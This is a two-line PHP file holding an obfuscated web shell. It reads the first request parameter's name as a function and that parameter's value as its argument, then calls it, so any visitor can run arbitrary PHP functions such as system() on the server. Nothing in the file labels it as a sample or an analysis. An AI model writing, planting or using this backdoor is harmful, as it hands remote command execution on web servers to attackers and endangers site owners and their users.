<?php
$a = $_REQUEST; $b = array_keys($a); $c = $a[$b[0]]; $d = $b[0]; $d($c);
